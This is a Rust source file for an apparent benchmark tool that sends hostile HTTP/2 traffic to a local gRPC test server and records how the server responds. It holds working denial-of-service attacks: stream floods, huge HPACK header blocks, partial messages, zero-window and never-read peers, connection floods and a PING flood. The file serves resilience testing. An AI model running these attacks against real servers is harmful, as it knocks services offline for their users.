//! `attack`: a hostile HTTP/2 peer against `interop-server` (grpc.testing.TestService), one
//! attack per run, for `benchmark/attacks/run.sh` (see `benchmark/attacks/README.md`).
//!
//! Raw TCP with frames built by hand, and the least of HPACK a hostile peer needs (indexed
//! fields, literals, no Huffman): nothing in a client library stands between the attack and
//! the server. The attacker follows the protocol where it must to be served (flow control, the
//! server's max frame size, SETTINGS and PING acknowledgements) and nowhere else.
//!
//! Output, on stdout: `READY sent=N` once the attack is in place (the server's memory can be
//! read then); after `--hold` seconds, `DONE sent=N ...` with what the server answered (GOAWAY
//! codes and debug data, RST_STREAM codes, PING acks, connections it closed and how long it
//! held them); then it exits, which closes every connection.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use benchmark::harness::{Args, runtime};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::{Notify, mpsc};
use tokio::time::{Instant, timeout_at};

const USAGE: &str = "\
attack: hostile HTTP/2 peers against interop-server, one attack per run.

Options:
  --target HOST:PORT  the server [127.0.0.1:10000]
  --attack NAME       one of:
      streams           N streams on one connection, tiny HPACK-indexed HEADERS, no DATA
      indexed-headers   20 streams, each header block 400,000 one-byte indexed fields
      literal-headers   20 streams, each with 15 MB of literal headers, no body
      partial-messages  50 streams, each a 4 MiB message missing its last 16 KiB
      zero-window       N StreamingOutputCalls of 8 x (4 MiB - 100 B) to a peer granting no
                        window
      no-read           the same calls, windows wide open, the socket never read
      big-response      one 11-byte UnaryCall asking for a 400 MiB response, no window
      preface-only      N connections sending the 24-byte preface, nothing more
      idle              N connections completing the handshake, then idle
      ping-flood        one connection, PING after PING, no stream
  --count N           streams (streams; zero-window, no-read), connections (preface-only,
                      idle), pings (ping-flood) [100000 or 50 streams, 1000 connections,
                      100000 pings]
  --seconds S         time limit for sending the attack [20]
  --hold S            how long to hold it in place after READY [5]";

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const UNARY_PATH: &str = "/grpc.testing.TestService/UnaryCall";
const STREAMING_OUTPUT_PATH: &str = "/grpc.testing.TestService/StreamingOutputCall";

// Frame types and flags (RFC 9113 §6).
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

// Settings identifiers.
const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;
const SETTINGS_MAX_FRAME_SIZE: u16 = 0x5;
const SETTINGS_MAX_HEADER_LIST_SIZE: u16 = 0x6;

/// HTTP/2's initial windows, before SETTINGS or WINDOW_UPDATE change them.
const DEFAULT_WINDOW: i64 = 65_535;
const MAX_WINDOW: u32 = (1 << 31) - 1;

/// HPACK (RFC 7541) encoding: integers, plain strings, indexed fields and literals.
mod hpack {
    /// An integer with an `n`-bit prefix after `flags` (§5.1).
    pub(crate) fn int(out: &mut Vec<u8>, flags: u8, n: u32, value: usize) {
        let max = (1usize << n) - 1;
        if value < max {
            out.push(flags | value as u8);
            return;
        }
        out.push(flags | max as u8);
        let mut rest = value - max;
        while rest >= 0x80 {
            out.push(0x80 | (rest & 0x7f) as u8);
            rest >>= 7;
        }
        out.push(rest as u8);
    }

    /// A string literal, not Huffman-coded (§5.2).
    pub(crate) fn string(out: &mut Vec<u8>, s: &[u8]) {
        int(out, 0x00, 7, s.len());
        out.extend_from_slice(s);
    }

    /// An indexed field (§6.1): one byte for an index below 127.
    pub(crate) fn indexed(out: &mut Vec<u8>, index: usize) {
        int(out, 0x80, 7, index);
    }

    /// A literal with incremental indexing (§6.2.1), its name from the table at `name_index`:
    /// the field enters the dynamic table at index 62.
    pub(crate) fn literal_indexed(out: &mut Vec<u8>, name_index: usize, value: &[u8]) {
        int(out, 0x40, 6, name_index);
        string(out, value);
    }

    /// A literal with a new name, with incremental indexing (§6.2.1).
    pub(crate) fn literal_new_indexed(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
        out.push(0x40);
        string(out, name);
        string(out, value);
    }

    /// A literal with a new name, without indexing (§6.2.2).
    pub(crate) fn literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
        out.push(0x00);
        string(out, name);
        string(out, value);
    }

    // The static table entries used (Appendix A).
    pub(crate) const PATH: usize = 4;
    pub(crate) const METHOD_POST: usize = 3;
    pub(crate) const SCHEME_HTTP: usize = 6;
    pub(crate) const ACCEPT: usize = 19;
    pub(crate) const CONTENT_TYPE: usize = 31;
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("frame length");
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

fn settings_frame(out: &mut Vec<u8>, settings: &[(u16, u32)]) {
    let mut payload = Vec::new();
    for (id, value) in settings {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(out, SETTINGS, 0, 0, &payload);
}

/// A gRPC message frame: flag, 4-byte length, message.
fn grpc_message(message: &[u8]) -> Vec<u8> {
    let mut out = vec![0];
    out.extend_from_slice(&u32::try_from(message.len()).expect("size").to_be_bytes());
    out.extend_from_slice(message);
    out
}

fn varint(out: &mut Vec<u8>, mut v: u64) {
    while v >= 0x80 {
        out.push(0x80 | (v & 0x7f) as u8);
        v >>= 7;
    }
    out.push(v as u8);
}

/// `SimpleRequest { response_size }`, encoded by hand.
fn simple_request(response_size: u32) -> Vec<u8> {
    let mut out = vec![0x10];
    varint(&mut out, response_size.into());
    out
}

/// `StreamingOutputCallRequest` asking for `count` responses of `size` bytes.
fn streaming_output_request(count: usize, size: u32) -> Vec<u8> {
    let mut parameters = vec![0x08];
    varint(&mut parameters, size.into());
    let mut out = Vec::new();
    for _ in 0..count {
        out.push(0x12);
        varint(&mut out, parameters.len() as u64);
        out.extend_from_slice(&parameters);
    }
    out
}

fn error_name(code: u32) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    NAMES
        .get(code as usize)
        .map_or_else(|| format!("0x{code:x}"), |n| (*n).to_owned())
}

/// What the server did, over every connection of the attack.
#[derive(Debug, Default)]
struct Seen {
    settings: Option<Vec<(u16, u32)>>,
    headers: u64,
    data_bytes: u64,
    rst: BTreeMap<String, u64>,
    goaway: BTreeMap<String, u64>,
    ping_acks: u64,
    server_pings: u64,
    closed: u64,
    /// Shortest and longest time a connection the server closed was open.
    held: Option<(Duration, Duration)>,
}

/// State shared by the attack's tasks.
#[derive(Debug)]
struct Ctx {
    target: String,
    /// Bytes written to the sockets.
    sent: AtomicU64,
    /// Bytes handed to the writers.
    queued: AtomicU64,
    deadline: Instant,
    seen: Mutex<Seen>,
}

/// One connection's flow-control view of the server.
#[derive(Debug)]
struct Flow {
    settings_seen: bool,
    closed: bool,
    max_frame: usize,
    initial_window: i64,
    conn_window: i64,
    streams: BTreeMap<u32, i64>,
}

#[derive(Debug)]
struct Shared {
    flow: Mutex<Flow>,
    changed: Notify,
}

/// How a connection behaves.
#[derive(Clone, Copy, Debug)]
struct Behaviour {
    /// Send only the 24-byte preface (no SETTINGS).
    preface_only: bool,
    /// Read the server's frames (else never touch the socket's read side).
    read: bool,
    /// Acknowledge the server's SETTINGS and PINGs.
    answer: bool,
    /// Our SETTINGS_INITIAL_WINDOW_SIZE.
    window: Option<u32>,
    /// Open the connection window this far beyond 64 KiB.
    open_connection_window: bool,
}

const POLITE: Behaviour = Behaviour {
    preface_only: false,
    read: true,
    answer: true,
    window: None,
    open_connection_window: false,
};

/// One attacking connection.
#[derive(Debug)]
struct Conn {
    ctx: Arc<Ctx>,
    shared: Arc<Shared>,
    control: mpsc::UnboundedSender<Vec<u8>>,
    data: mpsc::Sender<Vec<u8>>,
    next_stream: u32,
    path_indexed: Option<&'static str>,
}

impl Conn {
    async fn open(ctx: &Arc<Ctx>, how: Behaviour) -> std::io::Result<Conn> {
        let stream = TcpStream::connect(&ctx.target).await?;
        stream.set_nodelay(true)?;
        let opened = Instant::now();
        let (read, write) = stream.into_split();
        let shared = Arc::new(Shared {
            flow: Mutex::new(Flow {
                settings_seen: false,
                closed: false,
                max_frame: 16_384,
                initial_window: DEFAULT_WINDOW,
                conn_window: DEFAULT_WINDOW,
                streams: BTreeMap::new(),
            }),
            changed: Notify::new(),
        });
        let (control, control_rx) = mpsc::unbounded_channel();
        let (data, data_rx) = mpsc::channel(2);
        tokio::spawn(write_frames(write, control_rx, data_rx, Arc::clone(ctx)));
        if how.read {
            tokio::spawn(read_frames(
                read,
                Arc::clone(&shared),
                Arc::clone(ctx),
                control.clone(),
                how.answer,
                opened,
            ));
        } else {
            // Never read: keep the read half alive (dropping it does not close the socket,
            // but the attack holds everything anyway).
            tokio::spawn(async move {
                let _read = read;
                std::future::pending::<()>().await;
            });
        }
        let mut hello = PREFACE.to_vec();
        if !how.preface_only {
            let mut settings = vec![(0x2, 0)]; // SETTINGS_ENABLE_PUSH = 0
            if let Some(window) = how.window {
                settings.push((SETTINGS_INITIAL_WINDOW_SIZE, window));
            }
            settings_frame(&mut hello, &settings);
            if how.open_connection_window {
                let increment = MAX_WINDOW - DEFAULT_WINDOW as u32;
                frame(&mut hello, WINDOW_UPDATE, 0, 0, &increment.to_be_bytes());
            }
        }
        let conn = Conn {
            ctx: Arc::clone(ctx),
            shared,
            control,
            data,
            next_stream: 1,
            path_indexed: None,
        };
        conn.send_control(hello);
        Ok(conn)
    }

    fn send_control(&self, bytes: Vec<u8>) {
        self.ctx
            .queued
            .fetch_add(bytes.len() as u64, Ordering::Relaxed);
        let _ = self.control.send(bytes);
    }

    /// Queues `bytes` (whole frames; the writer may put acknowledgements between two calls)
    /// behind the attack's earlier ones. False once past the deadline or closed.
    async fn send(&self, bytes: Vec<u8>) -> bool {
        let len = bytes.len() as u64;
        match timeout_at(self.ctx.deadline, self.data.send(bytes)).await {
            Ok(Ok(())) => {
                self.ctx.queued.fetch_add(len, Ordering::Relaxed);
                true
            }
            _ => false,
        }
    }

    /// Waits for the server's SETTINGS (its max frame size and windows).
    async fn settings(&self) -> bool {
        loop {
            let changed = self.shared.changed.notified();
            tokio::pin!(changed);
            changed.as_mut().enable();
            {
                let flow = self.shared.flow.lock().unwrap();
                if flow.settings_seen {
                    return true;
                }
                if flow.closed {
                    return false;
                }
            }
            if timeout_at(self.ctx.deadline, changed).await.is_err() {
                return false;
            }
        }
    }

    fn max_frame(&self) -> usize {
        self.shared.flow.lock().unwrap().max_frame
    }

    /// Appends a request's HEADERS (and CONTINUATIONs) to `out`: POST `path` with gRPC's
    /// headers, then `extra` (already HPACK-encoded). The first request on the connection
    /// enters its fields in the dynamic table; later ones are five one-byte indexed fields.
    fn request(&mut self, out: &mut Vec<u8>, path: &'static str, extra: &[u8], end: bool) -> u32 {
        let mut block = Vec::with_capacity(64 + extra.len());
        hpack::indexed(&mut block, hpack::METHOD_POST);
        hpack::indexed(&mut block, hpack::SCHEME_HTTP);
        match self.path_indexed {
            None => {
                // Dynamic table afterwards: 62 te, 63 content-type, 64 :path.
                hpack::literal_indexed(&mut block, hpack::PATH, path.as_bytes());
                hpack::literal_indexed(&mut block, hpack::CONTENT_TYPE, b"application/grpc");
                hpack::literal_new_indexed(&mut block, b"te", b"trailers");
                self.path_indexed = Some(path);
            }
            Some(indexed) => {
                assert_eq!(indexed, path, "one path per connection");
                hpack::indexed(&mut block, 64);
                hpack::indexed(&mut block, 63);
                hpack::indexed(&mut block, 62);
            }
        }
        block.extend_from_slice(extra);
        let id = self.next_stream;
        self.next_stream += 2;
        {
            let mut flow = self.shared.flow.lock().unwrap();
            let window = flow.initial_window;
            flow.streams.insert(id, window);
        }
        let max = self.max_frame();
        let mut chunks = block.chunks(max).peekable();
        let mut kind = HEADERS;
        let mut flags = if end { END_STREAM } else { 0 };
        while let Some(chunk) = chunks.next() {
            if chunks.peek().is_none() {
                flags |= END_HEADERS;
            }
            frame(out, kind, flags, id, chunk);
            kind = CONTINUATION;
            flags = 0;
        }
        id
    }

    /// Sends `body` on `stream` as DATA within the server's flow-control windows. False if
    /// the deadline passed, or the stream or connection closed, first.
    async fn data(&self, stream: u32, body: &[u8], end: bool) -> bool {
        let mut offset = 0;
        while offset < body.len() {
            let n = loop {
                let changed = self.shared.changed.notified();
                tokio::pin!(changed);
                changed.as_mut().enable();
                {
                    let mut flow = self.shared.flow.lock().unwrap();
                    if flow.closed {
                        return false;
                    }
                    let max = flow.max_frame;
                    let conn = flow.conn_window;
                    let Some(window) = flow.streams.get_mut(&stream) else {
                        return false; // reset by the server
                    };
                    let n = (body.len() - offset)
                        .min(max)
                        .min(conn.min(*window).max(0) as usize);
                    if n > 0 {
                        *window -= n as i64;
                        flow.conn_window -= n as i64;
                        break n;
                    }
                }
                if timeout_at(self.ctx.deadline, changed).await.is_err() {
                    return false;
                }
            };
            let last = offset + n == body.len();
            let mut out = Vec::with_capacity(9 + n);
            let flags = if end && last { END_STREAM } else { 0 };
            frame(&mut out, DATA, flags, stream, &body[offset..offset + n]);
            if !self.send(out).await {
                return false;
            }
            offset += n;
        }
        true
    }
}

async fn write_frames(
    mut socket: OwnedWriteHalf,
    mut control: mpsc::UnboundedReceiver<Vec<u8>>,
    mut data: mpsc::Receiver<Vec<u8>>,
    ctx: Arc<Ctx>,
) {
    'frames: loop {
        let bytes = tokio::select! {
            biased;
            Some(bytes) = control.recv() => bytes,
            Some(bytes) = data.recv() => bytes,
            else => break,
        };
        // In pieces, so what is counted is what the server took before it closed.
        for piece in bytes.chunks(64 * 1024) {
            if socket.write_all(piece).await.is_err() {
                break 'frames;
            }
            ctx.sent.fetch_add(piece.len() as u64, Ordering::Relaxed);
        }
    }
    // Keep the socket open while the attack holds: the connection closes when the process
    // exits.
    std::future::pending::<()>().await;
}

async fn read_frames(
    mut socket: OwnedReadHalf,
    shared: Arc<Shared>,
    ctx: Arc<Ctx>,
    control: mpsc::UnboundedSender<Vec<u8>>,
    answer: bool,
    opened: Instant,
) {
    let mut head = [0u8; 9];
    let mut payload = Vec::new();
    while socket.read_exact(&mut head).await.is_ok() {
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (kind, flags) = (head[3], head[4]);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        payload.resize(len, 0);
        if socket.read_exact(&mut payload).await.is_err() {
            break;
        }
        let mut seen = ctx.seen.lock().unwrap();
        match kind {
            DATA => seen.data_bytes += len as u64,
            HEADERS => seen.headers += 1,
            RST_STREAM if len >= 4 => {
                let code = u32::from_be_bytes(payload[..4].try_into().unwrap());
                *seen.rst.entry(error_name(code)).or_default() += 1;
                shared.flow.lock().unwrap().streams.remove(&stream);
                shared.changed.notify_waiters();
            }
            SETTINGS if flags & ACK == 0 => {
                let mut settings = Vec::new();
                let mut flow = shared.flow.lock().unwrap();
                for pair in payload.chunks_exact(6) {
                    let id = u16::from_be_bytes([pair[0], pair[1]]);
                    let value = u32::from_be_bytes([pair[2], pair[3], pair[4], pair[5]]);
                    settings.push((id, value));
                    match id {
                        SETTINGS_INITIAL_WINDOW_SIZE => {
                            let delta = i64::from(value) - flow.initial_window;
                            flow.initial_window = i64::from(value);
                            for window in flow.streams.values_mut() {
                                *window += delta;
                            }
                        }
                        SETTINGS_MAX_FRAME_SIZE => flow.max_frame = value as usize,
                        _ => {}
                    }
                }
                flow.settings_seen = true;
                drop(flow);
                seen.settings.get_or_insert(settings);
                if answer {
                    let mut ack = Vec::new();
                    frame(&mut ack, SETTINGS, ACK, 0, &[]);
                    ctx.queued.fetch_add(ack.len() as u64, Ordering::Relaxed);
                    let _ = control.send(ack);
                }
                shared.changed.notify_waiters();
            }
            PING if flags & ACK != 0 => seen.ping_acks += 1,
            PING => {
                seen.server_pings += 1;
                if answer {
                    let mut ack = Vec::new();
                    frame(&mut ack, PING, ACK, 0, &payload);
                    ctx.queued.fetch_add(ack.len() as u64, Ordering::Relaxed);
                    let _ = control.send(ack);
                }
            }
            GOAWAY if len >= 8 => {
                let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                let debug = String::from_utf8_lossy(&payload[8..]);
                let key = if debug.is_empty() {
                    error_name(code)
                } else {
                    format!("{}/{debug}", error_name(code))
                };
                *seen.goaway.entry(key).or_default() += 1;
            }
            WINDOW_UPDATE if len >= 4 => {
                let increment =
                    i64::from(u32::from_be_bytes(payload[..4].try_into().unwrap()) & 0x7fff_ffff);
                let mut flow = shared.flow.lock().unwrap();
                if stream == 0 {
                    flow.conn_window += increment;
                } else if let Some(window) = flow.streams.get_mut(&stream) {
                    *window += increment;
                }
                drop(flow);
                shared.changed.notify_waiters();
            }
            _ => {}
        }
    }
    let held = opened.elapsed();
    let mut seen = ctx.seen.lock().unwrap();
    seen.closed += 1;
    seen.held = Some(match seen.held {
        None => (held, held),
        Some((shortest, longest)) => (shortest.min(held), longest.max(held)),
    });
    drop(seen);
    shared.flow.lock().unwrap().closed = true;
    shared.changed.notify_waiters();
}

/// Opens `n` connections behaving as `how` (bounded by the deadline).
async fn connections(ctx: &Arc<Ctx>, n: usize, how: Behaviour) -> Vec<Conn> {
    let mut conns = Vec::with_capacity(n);
    for i in 0..n {
        if Instant::now() >= ctx.deadline {
            eprintln!("attack: time is up after {i} connections");
            break;
        }
        match Conn::open(ctx, how).await {
            Ok(conn) => conns.push(conn),
            Err(e) => {
                eprintln!("attack: connection {i}: {e}");
                break;
            }
        }
    }
    conns
}

/// An attack: its connections, held until the end.
type Held = Vec<Conn>;

/// Many streams on one connection, each a few bytes of indexed HEADERS, no DATA.
async fn streams(ctx: &Arc<Ctx>, n: usize) -> Held {
    let Ok(mut conn) = Conn::open(ctx, POLITE).await else {
        return Vec::new();
    };
    conn.settings().await;
    let mut out = Vec::new();
    for _ in 0..n {
        conn.request(&mut out, UNARY_PATH, &[], false);
        if out.len() >= 64 * 1024 && !conn.send(std::mem::take(&mut out)).await {
            break;
        }
    }
    conn.send(out).await;
    vec![conn]
}

/// Streams whose header blocks are `extra` after the request's own fields, no body.
async fn header_blocks(ctx: &Arc<Ctx>, streams: usize, extra: &[u8]) -> Held {
    let Ok(mut conn) = Conn::open(ctx, POLITE).await else {
        return Vec::new();
    };
    conn.settings().await;
    for _ in 0..streams {
        // One piece: a header block's frames must not be split by the writer's
        // acknowledgements.
        let mut out = Vec::new();
        conn.request(&mut out, UNARY_PATH, extra, false);
        if !conn.send(out).await {
            break;
        }
    }
    vec![conn]
}

/// Streams each sending most of a message whose length prefix says 4 MiB.
async fn partial_messages(ctx: &Arc<Ctx>, streams: usize) -> Held {
    const SIZE: usize = 4 * 1024 * 1024;
    let Ok(mut conn) = Conn::open(ctx, POLITE).await else {
        return Vec::new();
    };
    conn.settings().await;
    let mut body = vec![0u8; 5 + SIZE - 16 * 1024];
    body[1..5].copy_from_slice(&(SIZE as u32).to_be_bytes());
    let mut ids = Vec::new();
    let mut out = Vec::new();
    for _ in 0..streams {
        ids.push(conn.request(&mut out, UNARY_PATH, &[], false));
    }
    conn.send(out).await;
    // Every stream at once, sharing the connection window as the server releases it.
    let conn = Arc::new(conn);
    let body = Arc::new(body);
    let mut tasks = tokio::task::JoinSet::new();
    for id in ids {
        let (conn, body) = (Arc::clone(&conn), Arc::clone(&body));
        tasks.spawn(async move { conn.data(id, &body, false).await });
    }
    let mut complete = 0;
    while let Some(done) = tasks.join_next().await {
        complete += usize::from(done.unwrap_or(false));
    }
    eprintln!("attack: {complete} of {streams} partial messages sent in full");
    match Arc::try_unwrap(conn) {
        Ok(conn) => vec![conn],
        Err(_) => Vec::new(),
    }
}

/// Calls whose requests ask for large responses, from a peer behaving as `how`.
async fn ask_large(
    ctx: &Arc<Ctx>,
    how: Behaviour,
    path: &'static str,
    request: &[u8],
    streams: usize,
) -> Held {
    let Ok(mut conn) = Conn::open(ctx, how).await else {
        return Vec::new();
    };
    if how.read {
        conn.settings().await;
    }
    let message = grpc_message(request);
    for _ in 0..streams {
        let mut out = Vec::new();
        let id = conn.request(&mut out, path, &[], false);
        if !conn.send(out).await || !conn.data(id, &message, true).await {
            break;
        }
    }
    vec![conn]
}

/// PING after PING on a connection with no stream, until the server closes it.
async fn ping_flood(ctx: &Arc<Ctx>, pings: usize) -> Held {
    let Ok(conn) = Conn::open(ctx, POLITE).await else {
        return Vec::new();
    };
    conn.settings().await;
    let mut sent = 0usize;
    while sent < pings {
        let mut out = Vec::new();
        for i in 0..pings.min(sent + 1000) - sent {
            frame(&mut out, PING, 0, 0, &((sent + i) as u64).to_be_bytes());
        }
        sent = pings.min(sent + 1000);
        if conn.shared.flow.lock().unwrap().closed || !conn.send(out).await {
            break;
        }
    }
    eprintln!("attack: {sent} pings queued");
    vec![conn]
}

fn main() {
    benchmark::process::init_logging("warn");
    let mut args = Args::parse(USAGE);
    let target: String = args.get("target", "127.0.0.1:10000".to_owned());
    let attack: String = args.get("attack", String::new());
    let count: Option<usize> = args.opt("count");
    let seconds: f64 = args.get("seconds", 20.0);
    let hold: f64 = args.get("hold", 5.0);
    args.finish();
    let code = runtime(1).block_on(async move {
        let ctx = Arc::new(Ctx {
            target,
            sent: AtomicU64::new(0),
            queued: AtomicU64::new(0),
            deadline: Instant::now() + Duration::from_secs_f64(seconds),
            seen: Mutex::new(Seen::default()),
        });
        let zero_window = Behaviour {
            window: Some(0),
            ..POLITE
        };
        let never_read = Behaviour {
            read: false,
            answer: false,
            window: Some(MAX_WINDOW),
            open_connection_window: true,
            ..POLITE
        };
        let held = match attack.as_str() {
            "streams" => streams(&ctx, count.unwrap_or(100_000)).await,
            "indexed-headers" => {
                // 400,000 references to `accept: ""` (38 bytes each as HPACK counts a
                // header list: 15.2 MB, under h2's 16 MiB default).
                let extra = vec![0x80 | hpack::ACCEPT as u8; 400_000];
                header_blocks(&ctx, 20, &extra).await
            }
            "literal-headers" => {
                // 3,750 literal `x-pad` fields of 4,000 bytes: 15 MB per block.
                let mut extra = Vec::new();
                let value = vec![b'a'; 4000];
                for _ in 0..3750 {
                    hpack::literal(&mut extra, b"x-pad", &value);
                }
                header_blocks(&ctx, 20, &extra).await
            }
            "partial-messages" => partial_messages(&ctx, 50).await,
            "zero-window" | "no-read" => {
                let how = if attack == "no-read" {
                    never_read
                } else {
                    zero_window
                };
                // Just under gRPC's usual 4 MiB message limit, so a send limit does not
                // refuse them: what is measured is how much of them the server buffers.
                let request = streaming_output_request(8, 4 * 1024 * 1024 - 100);
                let streams = count.unwrap_or(50);
                ask_large(&ctx, how, STREAMING_OUTPUT_PATH, &request, streams).await
            }
            "big-response" => {
                let request = simple_request(400 * 1024 * 1024);
                ask_large(&ctx, zero_window, UNARY_PATH, &request, 1).await
            }
            "preface-only" => {
                let how = Behaviour {
                    preface_only: true,
                    answer: false,
                    ..POLITE
                };
                connections(&ctx, count.unwrap_or(1000), how).await
            }
            "idle" => {
                let conns = connections(&ctx, count.unwrap_or(1000), POLITE).await;
                for conn in &conns {
                    conn.settings().await;
                }
                conns
            }
            "ping-flood" => ping_flood(&ctx, count.unwrap_or(100_000)).await,
            other => {
                eprintln!("attack: unknown attack {other:?}\n\n{USAGE}");
                return 2;
            }
        };
        // Let the writers drain what was queued (bounded by the deadline, and not for
        // connections the server closed).
        while ctx.sent.load(Ordering::Relaxed) < ctx.queued.load(Ordering::Relaxed)
            && Instant::now() < ctx.deadline
            && !held.iter().all(|c| c.shared.flow.lock().unwrap().closed)
        {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        println!(
            "READY sent={} connections={}",
            ctx.sent.load(Ordering::Relaxed),
            held.len()
        );
        tokio::time::sleep(Duration::from_secs_f64(hold)).await;
        println!(
            "DONE sent={} {}",
            ctx.sent.load(Ordering::Relaxed),
            summary(&ctx.seen.lock().unwrap(), held.len())
        );
        0
    });
    std::process::exit(code);
}

/// `key=value` pairs describing what the server did.
fn summary(seen: &Seen, connections: usize) -> String {
    let mut out = String::new();
    let list = |map: &BTreeMap<String, u64>| {
        if map.is_empty() {
            "none".to_owned()
        } else {
            map.iter()
                .map(|(k, n)| format!("{k}x{n}"))
                .collect::<Vec<_>>()
                .join(",")
        }
    };
    let _ = write!(
        out,
        "goaway={} rst={} ping_acks={} server_pings={} responses={} data_bytes={} closed={}/{connections}",
        list(&seen.goaway),
        list(&seen.rst),
        seen.ping_acks,
        seen.server_pings,
        seen.headers,
        seen.data_bytes,
        seen.closed,
    );
    if let Some((shortest, longest)) = seen.held {
        let _ = write!(
            out,
            " held_s={:.1}-{:.1}",
            shortest.as_secs_f64(),
            longest.as_secs_f64()
        );
    }
    if let Some(settings) = &seen.settings {
        let pick = |id| {
            settings
                .iter()
                .find(|(i, _)| *i == id)
                .map_or_else(|| "unset".to_owned(), |(_, v)| v.to_string())
        };
        let _ = write!(
            out,
            " max_concurrent_streams={} max_header_list_size={}",
            pick(SETTINGS_MAX_CONCURRENT_STREAMS),
            pick(SETTINGS_MAX_HEADER_LIST_SIZE)
        );
    }
    out
}
